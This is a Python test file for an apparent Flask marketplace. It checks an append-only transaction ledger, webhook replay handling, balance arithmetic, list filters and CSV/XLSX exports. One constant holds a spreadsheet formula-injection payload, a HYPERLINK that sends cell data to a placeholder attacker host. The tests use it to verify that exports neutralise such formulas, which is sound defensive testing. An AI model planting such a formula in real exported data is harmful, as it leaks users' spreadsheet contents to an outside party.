"""TXN-03: the ledger of transaction records is append-only in the database (on SQLite and PostgreSQL), replays add
nothing, and every order's balance adds up — after payment, a partial refund, completion and settlement. Also the
institution balances, the transaction list's filters and pagination, and the CSV and XLSX exports."""
from __future__ import annotations

import csv
import io
import json
from collections import Counter
from datetime import date, timedelta
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from hall.extensions import db
from hall.models import LedgerEntry, Order
from hall.services.core.errors import Conflict, InvalidInput
from hall.services.trading.ledger import add_entry
from tests.support.orders import (
    ORDERS,
    Market,
    buy_product,
    count,
    deliver_and_confirm,
    open_market,
    order_row,
    pay_by_card,
    refund,
    settle,
    webhook,
)
from tests.support.trading import intent_succeeded, stripe_event

TRANSACTIONS = "/api/v1/transactions"
LABELS = ["记录号 Entry", "时间(UTC) Time", "订单 Order", "我方 Side", "类型 Kind", "金额 Amount", "币种 Currency",
          "渠道 Rail", "参考号 Reference", "起息日 Value date"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def entry_columns(entry: LedgerEntry) -> dict[str, Any]:
    return {column.key: getattr(entry, column.key) for column in LedgerEntry.__table__.columns}


def fee(amount: int, rate_bp: int) -> int:
    """The platform fee as the rules state it: amount × rate / 10,000, rounded half up (computed independently)."""
    quotient, remainder = divmod(amount * rate_bp, 10_000)
    return quotient + (1 if remainder * 2 >= 10_000 else 0)


# --- append-only ------------------------------------------------------------------------------------------------------

def test_ledger_rows_cannot_be_updated_or_deleted(market: Market, backend: str) -> None:
    order = buy_product(market)
    pay_by_card(market, order["id"])
    statements = ["UPDATE ledger_entries SET amount = 1 WHERE id = :id",
                  "UPDATE ledger_entries SET kind = 'refund', memo = 'fixed' WHERE id = :id",
                  "DELETE FROM ledger_entries WHERE id = :id"]
    if backend == "sqlite":  # REPLACE deletes the old row without firing DELETE triggers
        statements.append("INSERT OR REPLACE INTO ledger_entries SELECT * FROM ledger_entries WHERE id = :id")
    with market.app.app_context():
        entry_id = db.session.scalar(select(LedgerEntry.id).order_by(LedgerEntry.id).limit(1))
        before = entry_columns(db.session.get(LedgerEntry, entry_id))
        for statement in statements:
            with pytest.raises(DBAPIError) as refused:
                db.session.execute(text(statement), {"id": entry_id})
            assert "ledger_entries is append-only" in str(refused.value.orig), statement
            db.session.rollback()
        if backend == "postgresql":
            with pytest.raises(DBAPIError, match="append-only"):
                db.session.execute(text("TRUNCATE ledger_entries CASCADE"))
            db.session.rollback()
        # Through the ORM as well: a changed attribute is refused at flush.
        entry = db.session.get(LedgerEntry, entry_id)
        entry.amount = 1
        with pytest.raises(DBAPIError, match="append-only"):
            db.session.commit()
        db.session.rollback()
        db.session.delete(db.session.get(LedgerEntry, entry_id))
        with pytest.raises(DBAPIError, match="append-only"):
            db.session.commit()
        db.session.rollback()
        db.session.expunge_all()
        assert entry_columns(db.session.get(LedgerEntry, entry_id)) == before
        assert db.session.scalar(select(db.func.count()).select_from(LedgerEntry)) == 2
        db.session.remove()


def test_replays_add_no_entry(market: Market) -> None:
    order = buy_product(market)
    intent = pay_by_card(market, order["id"], charge="ch_replayed")
    refund_event = stripe_event("refund.created", {"id": "re_replayed", "object": "refund", "amount": 10_000,
                                                   "currency": "cny", "status": "succeeded", "payment_intent": intent})
    assert webhook(market.app, refund_event).get_json()["outcome"] == "applied"
    entries = count(market.app, LedgerEntry)
    assert entries == 4  # charge, fee, refund, fee reversal
    replays = [intent_succeeded(intent, order["amount"], charge="ch_replayed"),  # same money, new event id
               refund_event,  # the same event again
               stripe_event("refund.updated", refund_event["data"]["object"])]  # same refund, new event id
    for event in replays:
        assert webhook(market.app, event).get_json()["outcome"] in ("already", "duplicate")
    assert count(market.app, LedgerEntry) == entries
    # The service itself answers the existing entry for a reference it has already recorded.
    with market.app.app_context():
        row = db.session.get(Order, order["id"])
        again = add_entry(row, "charge", order["amount"], rail="stripe", provider_reference="ch_replayed")
        assert again.kind == "charge" and again.amount == order["amount"]
        db.session.commit()
        db.session.remove()
    assert count(market.app, LedgerEntry) == entries
    assert order_row(market.app, order["id"])["paid_amount"] == order["amount"]
    assert order_row(market.app, order["id"])["refunded_amount"] == 10_000


# --- balances ---------------------------------------------------------------------------------------------------------

def check_balance(market: Market, order_id: int) -> dict[str, int]:
    """Assert the order's invariants from its detail and its row; return the balance."""
    detail = market.seller.get(f"{ORDERS}/{order_id}").get_json()
    sums = Counter()
    for entry in detail["ledger"]:
        assert entry["amount"] > 0 and entry["order_id"] == order_id
        sums[entry["kind"]] += entry["amount"]
    balance = detail["balance"]
    assert balance["charged"] == sums["charge"] and balance["refunded"] == sums["refund"]
    assert balance["fees"] == sums["platform_fee"] - sums["fee_reversal"]
    assert balance["settled"] == sums["settlement"]
    assert balance["disputed"] == sums["dispute_withdrawal"] - sums["dispute_reinstatement"]
    assert balance["seller_due"] == (balance["charged"] - balance["refunded"] - balance["disputed"] - balance["fees"]
                                     - balance["settled"])
    assert balance["held"] == balance["charged"] - balance["refunded"] - balance["disputed"] - balance["settled"]
    assert balance["seller_due"] >= 0 and balance["held"] >= balance["fees"]
    # The fee follows the money kept: the fee of what was paid less what was refunded.
    assert balance["fees"] == fee(balance["charged"] - balance["refunded"], detail["fee_rate_bp"])
    # The order's counters (which serialise refunds and settlements) equal the ledger's sums.
    row = order_row(market.app, order_id)
    assert (row["paid_amount"], row["refunded_amount"], row["settled_amount"]) == (
        balance["charged"], balance["refunded"], balance["settled"])
    assert (detail["paid_amount"], detail["refunded_amount"]) == (balance["charged"], balance["refunded"])
    return balance


def institution_balance(market: Market, party: str) -> list[dict[str, Any]]:
    response = getattr(market, party).get(f"{TRANSACTIONS}/balances")
    assert response.status_code == 200
    return response.get_json()


def test_balances_add_up_through_payment_refund_completion_and_settlement(market: Market) -> None:
    order = buy_product(market)
    oid, amount, rate = order["id"], order["amount"], order["fee_rate_bp"]
    pay_by_card(market, oid)
    paid = check_balance(market, oid)
    assert paid == {"charged": amount, "refunded": 0, "disputed": 0, "fees": fee(amount, rate), "settled": 0,
                    "held": amount, "seller_due": amount - fee(amount, rate)}

    refund(market, oid, 333_33)  # fee of the kept money: 3 % of 11,999,666.67 CNY rounds half up
    refunded = check_balance(market, oid)
    kept = amount - 333_33
    assert refunded["refunded"] == 333_33 and refunded["fees"] == fee(kept, rate)
    reversals = [e["amount"] for e in market.seller.get(f"{ORDERS}/{oid}").get_json()["ledger"]
                 if e["kind"] == "fee_reversal"]
    assert reversals == [fee(amount, rate) - fee(kept, rate)]
    assert order_row(market.app, oid)["status"] == "paid"

    deliver_and_confirm(market, oid)
    assert check_balance(market, oid) == refunded
    due = refunded["seller_due"]
    with pytest.raises(InvalidInput, match="is due to the seller"):
        settle(market, oid, due + 1, "SETTLE-TOO-MUCH")
    settle(market, oid, due - 1_00, "SETTLE-1")
    settle(market, oid, 1_00, "SETTLE-2")
    settled = check_balance(market, oid)
    assert settled["settled"] == due and settled["seller_due"] == 0 and settled["held"] == settled["fees"]
    with pytest.raises(InvalidInput):
        settle(market, oid, 1, "SETTLE-3")
    # Money settled to the seller is no longer the platform's to refund: an admin refund stops at what it holds.
    with pytest.raises(Conflict, match="settled to the seller"):
        refund(market, oid, settled["held"] + 1)
    assert check_balance(market, oid) == settled

    assert institution_balance(market, "buyer") == [{"currency": "CNY", "paid_as_buyer": kept, "received_as_seller": 0,
                                                     "fees": 0, "settled": 0, "due_to_seller": 0}]
    assert institution_balance(market, "seller") == [{"currency": "CNY", "paid_as_buyer": 0,
                                                      "received_as_seller": kept, "fees": fee(kept, rate),
                                                      "settled": due, "due_to_seller": 0}]
    assert institution_balance(market, "buyer_b") == []


def test_institution_balances_are_per_currency(app: Flask) -> None:
    market = open_market(app, currency="USD", price_amount=2_000_00)
    product = buy_product(market)
    pay_by_card(market, product["id"])
    licence = market.buyer.order(market.licence, "non_exclusive_license").get_json()
    pay_by_card(market, licence["id"])
    seller = {row["currency"]: row for row in institution_balance(market, "seller")}
    assert set(seller) == {"CNY", "USD"}
    assert seller["USD"]["received_as_seller"] == 2_000_00 and seller["USD"]["fees"] == fee(2_000_00, 300)
    assert seller["CNY"]["received_as_seller"] == product["amount"]
    assert seller["USD"]["due_to_seller"] == 2_000_00 - fee(2_000_00, 300)
    buyer = {row["currency"]: row["paid_as_buyer"] for row in institution_balance(market, "buyer")}
    assert buyer == {"CNY": product["amount"], "USD": 2_000_00}


# --- the transaction list ---------------------------------------------------------------------------------------------

@pytest.fixture
def traded(market: Market) -> dict[str, Any]:
    """Two paid orders of the buyer; the first partly refunded. Returns their ids and the seller's entries."""
    first = buy_product(market)
    pay_by_card(market, first["id"])
    refund(market, first["id"], 500_00)
    second = market.buyer.order(market.licence, "non_exclusive_license").get_json()
    pay_by_card(market, second["id"])
    entries = market.seller.get(f"{TRANSACTIONS}?page_size=200").get_json()
    return {"first": first["id"], "second": second["id"], "entries": entries}


def ids(response: Any) -> list[int]:
    assert response.status_code == 200, response.get_json()
    return [entry["id"] for entry in response.get_json()]


def test_the_transaction_list_filters(market: Market, traded: dict[str, Any]) -> None:
    seller, buyer = market.seller, market.buyer
    everything = traded["entries"]
    assert [e["id"] for e in everything] == sorted((e["id"] for e in everything), reverse=True)  # newest first
    assert Counter(e["kind"] for e in everything) == {"charge": 2, "platform_fee": 2, "refund": 1, "fee_reversal": 1}
    assert ids(seller.get(f"{TRANSACTIONS}?side=seller")) == [e["id"] for e in everything]
    assert ids(seller.get(f"{TRANSACTIONS}?side=buyer")) == []
    assert {e["kind"] for e in seller.get(f"{TRANSACTIONS}?kind=charge").get_json()} == {"charge"}
    assert len(ids(seller.get(f"{TRANSACTIONS}?kind=charge"))) == 2
    second = ids(seller.get(f"{TRANSACTIONS}?order_id={traded['second']}"))
    assert second == [e["id"] for e in everything if e["order_id"] == traded["second"]] and len(second) == 2
    assert ids(seller.get(f"{TRANSACTIONS}?order_id={traded['first']}&kind=refund")) == [
        e["id"] for e in everything if e["kind"] == "refund"]
    assert ids(seller.get(f"{TRANSACTIONS}?currency=USD")) == []

    bought = buyer.get(f"{TRANSACTIONS}?side=buyer").get_json()
    assert sorted(e["kind"] for e in bought) == ["charge", "charge", "refund"]

    days = sorted({date.fromisoformat(e["occurred_at"][:10]) for e in everything})
    first_day, last_day = days[0], days[-1]
    assert ids(seller.get(f"{TRANSACTIONS}?since={first_day}")) == [e["id"] for e in everything]
    assert ids(seller.get(f"{TRANSACTIONS}?since={last_day + timedelta(days=1)}")) == []
    assert ids(seller.get(f"{TRANSACTIONS}?until={first_day}")) == []  # until is exclusive
    assert ids(seller.get(f"{TRANSACTIONS}?since={first_day}&until={last_day + timedelta(days=1)}")) == [
        e["id"] for e in everything]

    for bad in ("side=platform", "kind=bonus", "order_id=0", "currency=XYZ", "since=last-week", "page=0",
                "page_size=0", "page_size=201", "limit=5"):
        response = seller.get(f"{TRANSACTIONS}?{bad}")
        assert response.status_code == 422, bad


def test_the_transaction_list_paginates(market: Market, traded: dict[str, Any]) -> None:
    everything = [e["id"] for e in traded["entries"]]
    total = len(everything)
    default = market.seller.get(TRANSACTIONS)
    assert json.loads(default.headers["X-Pagination"]) == {"total": total, "total_pages": 1, "page": 1,
                                                           "page_size": 50}
    pages = []
    for page in (1, 2, 3, 4):
        response = market.seller.get(f"{TRANSACTIONS}?page_size=4&page={page}")
        assert json.loads(response.headers["X-Pagination"]) == {"total": total, "total_pages": -(-total // 4),
                                                                "page": page, "page_size": 4}
        pages.append(ids(response))
    assert [len(p) for p in pages] == [4, 2, 0, 0] and sum(pages, []) == everything
    filtered = market.seller.get(f"{TRANSACTIONS}?kind=charge&page_size=1")
    assert json.loads(filtered.headers["X-Pagination"])["total"] == 2 and len(filtered.get_json()) == 1


# --- exports ----------------------------------------------------------------------------------------------------------

def test_the_csv_export(market: Market) -> None:
    order = buy_product(market)
    pay_by_card(market, order["id"], charge=FORMULA)
    response = market.seller.get(f"{TRANSACTIONS}/export")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="transactions.csv"'
    assert response.data.startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel
    rows = list(csv.reader(io.StringIO(response.data[3:].decode("utf-8"))))
    assert rows[0] == LABELS
    by_kind = {row[4]: dict(zip(LABELS, row)) for row in rows[1:]}
    assert set(by_kind) == {"charge", "platform_fee"} and len(rows) == 3
    charge = by_kind["charge"]
    assert charge["参考号 Reference"] == "'" + FORMULA  # defused: a spreadsheet shows it as text
    assert charge["金额 Amount"] == f"{order['amount'] // 100}.{order['amount'] % 100:02d}"
    assert charge["订单 Order"] == str(order["id"]) and charge["我方 Side"] == "seller"
    assert charge["币种 Currency"] == "CNY" and charge["渠道 Rail"] == "stripe"
    assert by_kind["platform_fee"]["金额 Amount"] == f"{order['fee_amount'] // 100}.{order['fee_amount'] % 100:02d}"
    assert by_kind["platform_fee"]["参考号 Reference"] == "fee:" + FORMULA  # starts with text: nothing to defuse
    only_fees = market.seller.get(f"{TRANSACTIONS}/export?kind=platform_fee")
    assert len(list(csv.reader(io.StringIO(only_fees.data.decode("utf-8-sig"))))) == 2
    assert market.seller.get(f"{TRANSACTIONS}/export?format=pdf").status_code == 422


def test_the_xlsx_export(market: Market) -> None:
    order = buy_product(market)
    pay_by_card(market, order["id"], charge=FORMULA)
    response = market.buyer.get(f"{TRANSACTIONS}/export?format=xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == 'attachment; filename="transactions.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["交易记录 Transactions"]
    sheet = workbook["交易记录 Transactions"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == LABELS and len(rows) == 2  # the buyer's export has its charge only
    charge = dict(zip(LABELS, rows[1]))
    assert charge["类型 Kind"] == "charge" and charge["我方 Side"] == "buyer" and charge["订单 Order"] == order["id"]
    assert charge["参考号 Reference"] == "'" + FORMULA
    reference_cell = sheet.cell(row=2, column=LABELS.index("参考号 Reference") + 1)
    assert reference_cell.data_type == "s"  # text, not a formula
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    workbook.close()
